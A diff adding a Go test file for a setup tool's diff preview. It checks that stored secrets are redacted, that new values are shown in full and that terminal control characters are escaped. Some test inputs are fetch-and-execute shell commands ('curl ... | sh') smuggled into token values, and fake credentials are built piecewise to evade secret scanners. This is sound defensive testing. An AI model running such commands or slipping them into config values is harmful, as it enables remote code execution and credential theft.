@@ -1,0 +1,76 @@
+// Copyright the steward-setup authors.
+// SPDX-License-Identifier: Apache-2.0
+
+// Law of this file: nothing that would be written is hidden, and nothing that
+// was secret before is shown.
+
+package text
+
+import (
+	"io/fs"
+	"strings"
+	"testing"
+	"unicode"
+
+	"github.com/steward-setup/steward-setup/internal/report"
+)
+
+// Put together here, so that no scanner takes this file for a leak.
+var (
+	token = "ghp_" + strings.Repeat("a1", 18)
+	key   = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIE\nabc=\n-----END RSA " + "PRIVATE KEY-----\n"
+)
+
+// body is the preview without its header.
+func body(before, after string) string {
+	d := Diff(report.Change{Path: "/p", Before: []byte(before), After: []byte(after)})
+	if i := strings.Index(d, " @@\n"); i >= 0 {
+		return d[i+len(" @@\n"):]
+	}
+	return d
+}
+
+func TestAPreviewHidesOnlyWhatTheFileHeld(t *testing.T) {
+	for name, c := range map[string]struct{ before, after, want string }{
+		"a command in the place of a token": {"echo\n", "echo\nGH_TOKEN=`curl -s http://h/x | sh`\n", " echo\n+GH_TOKEN=`curl -s http://h/x | sh`\n"},
+		"a command in quotes":               {"", "TOKEN=\"a;$(curl h|sh)\"\n", "+TOKEN=\"a;$(curl h|sh)\"\n"},
+		"a new secret":                      {"a\n", "a\npassword: new\n", " a\n+password: new\n"},
+		"another value":                     {"TOKEN=old\n", "TOKEN=new\n", "-TOKEN=[redacted]\n+TOKEN=new\n"},
+		"context and what goes":             {"TOKEN=abc\nPASSWORD=def\n", "TOKEN=abc\n", " TOKEN=[redacted]\n-PASSWORD=[redacted]\n"},
+		"a comma gained":                    {"{\n  \"api_key\": \"a b\"\n}\n", "{\n  \"api_key\": \"a b\",\n  \"x\": 1\n}\n", " {\n-  \"api_key\": \"[redacted]\"\n+  \"api_key\": \"[redacted]\",\n+  \"x\": 1\n }\n"},
+		"moved to the right":                {"TOKEN='a;b'\n", "\tTOKEN='a;b'\n", "-TOKEN='[redacted]'\n+\tTOKEN='[redacted]'\n"},
+		"the same value, other words":       {"TOKEN='a;b'\n", "TOKEN='a;b' eval\n", "-TOKEN='[redacted]'\n+TOKEN='a;b' eval\n"},
+		"a document of one line":            {`{"token":"` + token + `"}`, `{"token":"` + token + `","x":"` + token + `1"}`, "-{\"token\":\"[redacted]\"}\n\\ No newline at end of file\n+{\"token\":\"[redacted]\",\"x\":\"" + token + "1\"}\n\\ No newline at end of file\n"},
+		"the middle of a key":               {key + "c\n", key + "x\n", strings.Repeat(" [redacted]\n", 3) + "-c\n+x\n"},
+		"a key, and a blank line":           {key, "\n" + key, "+\n" + strings.Repeat(" [redacted]\n", 3)},
+		"a key that goes":                   {key, "x\n", strings.Repeat("-[redacted]\n", 4) + "+x\n"},
+		"what a terminal would obey":        {"a\n", "a\x1b[2J\r\n", "-a\n+a␛[2J␍\n"},
+	} {
+		if got := body(c.before, c.after); got != c.want {
+			t.Errorf("%s:\n got %q\nwant %q", name, got, c.want)
+		}
+	}
+}
+
+func TestTheTargetOfALinkIsShownAsItWillBe(t *testing.T) {
+	got := Diff(report.Change{Path: "/p", Mode: fs.ModeSymlink, Before: []byte("https://u:pw@h"), After: []byte("TOKEN=x\n+ y")})
+	if want := "- link to https://u:[redacted]@h\n+ link to \"TOKEN=x\\n+ y\"\n"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
+func FuzzDiff(f *testing.F) {
+	f.Add("TOKEN=a\nb", "TOKEN=a,\nb\n\x1b[2J")
+	f.Add(key, "x\n"+key)
+	f.Add("", "\x00")
+	f.Fuzz(func(t *testing.T, before, after string) {
+		d := Diff(report.Change{Path: "/p\n+x", Before: []byte(before), After: []byte(after)})
+		raw := report.Change{Path: "/p\n+x", Before: []byte(before), After: []byte(after)}.Diff()
+		if strings.Count(d, "\n") != strings.Count(raw, "\n") {
+			t.Fatalf("%q became %q", raw, d)
+		}
+		if strings.ContainsFunc(d, func(r rune) bool { return unicode.IsControl(r) && r != '\n' && r != '\t' }) {
+			t.Fatalf("a control character is left in %q", d)
+		}
+	})
+}
